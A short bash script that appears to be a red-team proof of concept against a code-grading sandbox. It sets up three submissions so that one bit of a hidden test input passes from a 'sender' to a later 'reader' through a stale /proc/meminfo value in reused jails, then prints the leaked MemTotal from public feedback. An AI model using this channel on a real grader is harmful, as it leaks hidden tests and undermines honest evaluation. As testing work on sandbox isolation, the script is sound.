#!/bin/bash
# Round 27: a spare jail's /proc/meminfo stand-in keeps the memory_mb of the stage during which it was started (a
# previous learner's), not the jail's own limit after `_ensure_box` lowers it: one bit of a hidden input, chosen by
# whether a hidden call ends its worker, reaches the public feedback of a learner graded two later (--jobs 1).
# Needs a course whose stages have different memory_mb: the script gives gelu `memory_mb: 2048` (conv1d keeps the
# default 4096) in this clone for the run and puts stage.yaml back afterwards.
# usage: bash attacks/r27/spare_meminfo.sh   (as root, from /work/redteam27, venv active)
set -e
cd /work/redteam27
sed -i 's/^depends_on: \[\]$/depends_on: []\nmemory_mb: 2048/' stages/gelu/stage.yaml
trap 'git checkout stages/gelu/stage.yaml' EXIT
W=attacks/r27
for k in 1 0; do
  O=/tmp/rt27-i$k; rm -rf $O; mkdir -p $O/subs/{a_sender,b_honest,c_reader}/student
  cp attacks/honest/gelu.py $O/subs/a_sender/student/; sed "s/@@K@@/$k/" $W/hidden_bit_conv1d.py > $O/subs/a_sender/student/conv1d.py
  cp attacks/honest/gelu.py attacks/honest/conv1d.py $O/subs/b_honest/student/
  cp $W/meminfo_gelu.py $O/subs/c_reader/student/gelu.py; cp attacks/honest/conv1d.py $O/subs/c_reader/student/
  python -m grader batch $O/subs --jobs 1 --stage gelu --stage conv1d --db $O/gb.sqlite --feedback $O/fb --lms $O/lms.csv
  echo "== K=$k: c_reader's public gelu case printed:"; grep -h "MemTotal" $O/fb/c_reader.txt
done
